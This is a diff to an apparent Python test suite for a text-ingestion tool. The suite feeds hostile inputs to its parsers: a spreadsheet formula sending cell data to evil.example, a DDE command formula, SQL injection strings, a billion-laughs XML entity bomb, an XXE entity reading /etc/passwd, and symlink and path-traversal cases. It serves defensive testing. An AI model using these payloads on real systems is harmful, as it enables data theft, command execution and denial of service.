@@ -90,7 +90,14 @@ def link(target: str) -> Callable[[Path], None]:
     return lambda path: path.symlink_to(target)
 
 
+def _with_sidecar_link(path: Path) -> None:
+    path.write_text(PLAIN)
+    path.with_suffix(".json").symlink_to("/etc/hostname")
+
+
 _ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
+_RSS = "<rss version='2.0'><channel><item><description>%s</description></item></channel></rss>"
+_NITF = "<!DOCTYPE nitf [%s]><nitf><body><body.content><p>%s</p></body.content></body></nitf>"
 _TRICKS = {
     "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "formula_dde": "=cmd|' /C calc'!A0", "formula_at": "@SUM(1+1)*cmd",
     "formula_tab": "\t=1+1", "sql": "'; DROP TABLE raw.articles; --", "sql_union": "x' UNION SELECT * FROM read_csv('/etc/passwd') --",
@@ -108,7 +115,7 @@ _LOADED_TRICKS = {
 def tricks(name: str) -> list[Case]:
     """A trick as the text, in every other field of JSON, and in every cell of CSV."""
     trick = _TRICKS[name]
-    fields = {key: trick for key in ("id", "url", "source", "title", "author", "language")}
+    fields = dict.fromkeys(("id", "url", "source", "title", "author", "language"), trick)
     cells = ",".join('"' + trick.replace('"', '""') + '"' for _ in range(6))
     sheet = f'id,url,source,title,author,language,text\n{cells},"{PLAIN}"\n'.encode()
     return [
@@ -229,10 +236,10 @@ CASES: list[Case] = [
     feed("character_that_xml_forbids", PLAIN + "&#0;&#x1;", PLAIN),
     feed("deep", "<b>" * 20_000 + PLAIN + "</b>" * 20_000, reason=(0, "no_text")),
     Case("xml_cut", "a.xml", f"<rss version='2.0'><channel><item><description>{PLAIN}".encode(), (), ((0, "no_text"),)),
-    Case("xml_wrong_encoding", "a.xml", f"<?xml version='1.0' encoding='utf-32'?><rss version='2.0'><channel><item><description>{PLAIN}</description></item></channel></rss>".encode(), (PLAIN,)),
+    Case("xml_wrong_encoding", "a.xml", ("<?xml version='1.0' encoding='utf-32'?>" + _RSS % PLAIN).encode(), (PLAIN,)),
     Case("xml_deep_newsml", "a.xml", b"<nitf><body><body.content>" + b"<p>" * 50_000 + PLAIN.encode(), (), ((0, "no_text"),)),
-    Case("xml_billion_laughs_newsml", "a.xml", f'<!DOCTYPE nitf [<!ENTITY l0 "ha">{_ENTITIES}]><nitf><body><body.content><p>&l9;</p></body.content></body></nitf>'.encode(), (), ((0, "no_text"),)),
-    Case("xml_file_in_newsml", "a.xml", f'<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]><nitf><body><body.content><p>{PLAIN} &x;</p></body.content></body></nitf>'.encode(), (PLAIN,)),
+    Case("xml_billion_laughs_newsml", "a.xml", (_NITF % (f'<!ENTITY l0 "ha">{_ENTITIES}', "&l9;")).encode(), (), ((0, "no_text"),)),
+    Case("xml_file_in_newsml", "a.xml", (_NITF % ('<!ENTITY x SYSTEM "file:///etc/passwd">', PLAIN + " &x;")).encode(), (PLAIN,)),
     Case("xml_sitemap", "a.xml", b"<urlset><url><loc>file:///etc/passwd</loc></url></urlset>", (), ((-1, "list_of_links"),)),
     Case("xml_no_items", "a.rss", b'<rss version="2.0"><channel><title>x</title></channel></rss>', (), ((-1, "empty_file"),)),
     # pages
@@ -272,7 +279,7 @@ CASES: list[Case] = [
     Case("file_link_up", "a.txt", link("../../../../../../etc/passwd"), (), ((-1, "outside_link"),)),
     Case("file_pipe", "a.jsonl", os.mkfifo, (), ((-1, "not_a_file"),)),
     Case("file_folder_of_that_name", "a.jsonl", lambda path: (path.mkdir(), (path / "b.jsonl").write_bytes(line())), (PLAIN,)),
-    Case("file_sidecar_is_a_link_out", "a.txt", lambda path: (path.write_text(PLAIN), path.with_suffix(".json").symlink_to("/etc/hostname")), (), ((-1, "outside_link"),)),
+    Case("file_sidecar_is_a_link_out", "a.txt", _with_sidecar_link, (), ((-1, "outside_link"),)),
     Case("file_program", "a.txt", b"\x7fELF" + b"\0" * 100, (), ((-1, "binary_file"),)),
     *(case for name in _TRICKS for case in tricks(name)),
 ]  # fmt: skip
